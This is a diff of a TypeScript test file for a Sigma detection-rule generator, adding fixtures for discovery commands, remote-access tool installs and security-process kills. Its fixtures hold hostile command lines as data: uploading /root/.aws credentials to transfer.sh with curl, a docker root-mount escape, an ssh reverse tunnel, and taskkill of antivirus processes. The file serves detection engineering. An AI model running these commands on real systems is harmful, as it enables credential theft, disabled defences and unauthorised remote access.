@@ -2,7 +2,7 @@ import { validateRuleDocument } from '../validate/validate-rule';
 import { selfTestRule } from '../evaluate/self-test';
 import { fidelityCheck } from '../vetting/fidelity';
 import { generateBuiltinRules, type TemplatePlatform } from './builtin-sigma-agent';
-import { knownSpellings, meetsSelection, techniqueOf } from './technique-match';
+import { knownSpellings, meetsSelection, shownAlternatives, techniqueOf } from './technique-match';
 import { TECHNIQUES } from './techniques';
 
 const article = { title: 'Notes on an intrusion', url: 'https://research.example.org/notes', date: '2026-11-27' };
@@ -237,9 +237,26 @@ const SHOWN: Array<[string, TemplatePlatform, string]> = [
   ['container-host-root-mount', 'linux', 'docker run -it -v /:/host alpine chroot /host sh'],
   ['file-sharing-service', 'linux', 'tar czf - /root/.aws | curl --upload-file - https://transfer.sh/a.tgz'],
   ['internet-scanner', 'linux', 'masscan 10.0.0.0/8 -p6379 --rate 10000'],
-  ['net-discovery', 'windows', 'net view \\\\FS02 /all'],
+  ['net-view-discovery', 'windows', 'net view \\\\FS02 /all'],
+  ['net-share-discovery', 'windows', 'net share'],
+  ['net-accounts-discovery', 'windows', 'net accounts /domain'],
+  ['net-session-discovery', 'windows', 'net session'],
+  ['net-user-discovery', 'windows', 'net user'],
+  ['net-group-discovery', 'windows', 'net1 group'],
   ['logged-on-user-discovery', 'windows', 'quser'],
-  ['remote-access-tool', 'windows', 'C:\\Users\\Public\\rustdesk.exe --password Tmp2026'],
+  ['remote-access-rustdesk', 'windows', 'C:\\Users\\Public\\rustdesk.exe --password Tmp2026'],
+  [
+    'remote-access-screenconnect',
+    'windows',
+    '"C:\\Program Files (x86)\\ScreenConnect Client (4f1d)\\ScreenConnect.ClientService.exe" "?e=Access&y=Guest&h=relay.example"',
+  ],
+  ['remote-access-atera', 'windows', 'C:\\Program Files\\ATERA Networks\\AteraAgent\\AteraAgent.exe /i'],
+  ['remote-access-splashtop', 'windows', 'C:\\Users\\Public\\SRService.exe'],
+  ['remote-access-tactical-rmm', 'windows', 'C:\\ProgramData\\TacticalAgent\\tacticalrmm.exe -m install'],
+  ['remote-access-remote-utilities', 'windows', 'C:\\ProgramData\\RU\\rutserv.exe /silentinstall'],
+  ['remote-access-netsupport-manager', 'windows', 'C:\\Users\\kim\\AppData\\Roaming\\Ctx\\client32.exe'],
+  ['remote-access-dwservice', 'linux', '/tmp/.d/dwagent -silent'],
+  ['remote-access-simplehelp', 'windows', 'C:\\ProgramData\\JWrapper-Remote Access\\SimpleHelp.exe'],
   ['crontab-replaced', 'linux', 'crontab /tmp/.c/cr'],
   ['ssh-reverse-tunnel', 'windows', 'ssh.exe -N -R 1080 tun@198.51.100.14'],
 ];
@@ -269,7 +286,7 @@ describe('well-known techniques: rules keyed on the behaviour', () => {
     );
     expect(rule?.detection).toEqual({
       selection_1: { 'Image|endswith': '\\rundll32.exe', 'CommandLine|contains': 'comsvcs' },
-      selection_2: { 'CommandLine|contains': ['MiniDump', '#24', '#+24', '#0024'] },
+      selection_2: { 'CommandLine|contains': ['MiniDump', '#24'] },
       condition: 'all of selection_*',
     });
     expect(JSON.stringify(rule?.detection)).not.toContain('out.bin');
@@ -319,15 +336,7 @@ describe('well-known techniques: rules keyed on the behaviour', () => {
     expect(drafts.map((draft) => draft.rule.title)).toEqual(['Cryptocurrency Miner Downloaded Or Run', 'Curl Download From Remote Host']);
     expect(drafts[0]?.rule.detection).toEqual({
       selection: {
-        'CommandLine|contains': [
-          'xmrig',
-          'stratum+tcp://',
-          'stratum+ssl://',
-          'stratum+tls://',
-          '--donate-level',
-          '--cpu-max-threads-hint',
-          'nicehash',
-        ],
+        'CommandLine|contains': ['xmrig', 'stratum+tcp://'],
       },
       condition: 'selection',
     });
@@ -445,6 +454,26 @@ describe('well-known techniques: rules keyed on the behaviour', () => {
     expect(fires('Set-MpPreference -SignatureDisableUpdate $false')).toBe(false);
     expect(techniqueOf('powershell.exe', 'Set-MpPreference -DisableRealtimeMonitoring $false', 'windows')).toBeNull();
     expect(techniqueOf('powershell.exe', 'Set-MpPreference -DisableRealtimeMonitoring 0', 'windows')).toBeNull();
+  });
+
+  it('cuts a technique rule to the alternatives the commands showed, keeping its defining values', () => {
+    const detectionOf = (...lines: string[]) =>
+      generateBuiltinRules({ article, platform: 'windows', cmdlines: lines.map((value) => ({ ...item, value })) }).find(
+        (draft) => draft.rule.title === 'Security Product Process Killed',
+      )?.rule.detection;
+    const one = detectionOf('taskkill /F /IM MsMpEng.exe');
+    expect(JSON.stringify(one)).toContain('MsMpEng');
+    expect(JSON.stringify(one)).not.toContain('CSFalconService');
+    const two = JSON.stringify(detectionOf('taskkill /F /IM MsMpEng.exe', 'taskkill /F /IM CSFalconService.exe /T'));
+    expect(two).toContain('MsMpEng');
+    expect(two).toContain('CSFalconService');
+    expect(two).not.toContain('SentinelAgent');
+    // A list none of whose values a line shows, and a list required whole, stay as the table writes them.
+    expect(shownAlternatives({ 'CommandLine|contains': ['a1', 'b2'] }, ['zz'])).toEqual({ 'CommandLine|contains': ['a1', 'b2'] });
+    expect(shownAlternatives({ 'CommandLine|contains|all': ['a1', 'b2'] }, ['a1'])).toEqual({ 'CommandLine|contains|all': ['a1', 'b2'] });
+    expect(shownAlternatives({ 'CommandLine|contains': ['a1', 'b2', 'c3'] }, ['x a1'], ['c3'])).toEqual({
+      'CommandLine|contains': ['a1', 'c3'],
+    });
   });
 
   it('needs the program and the pattern on the platform the table names', () => {
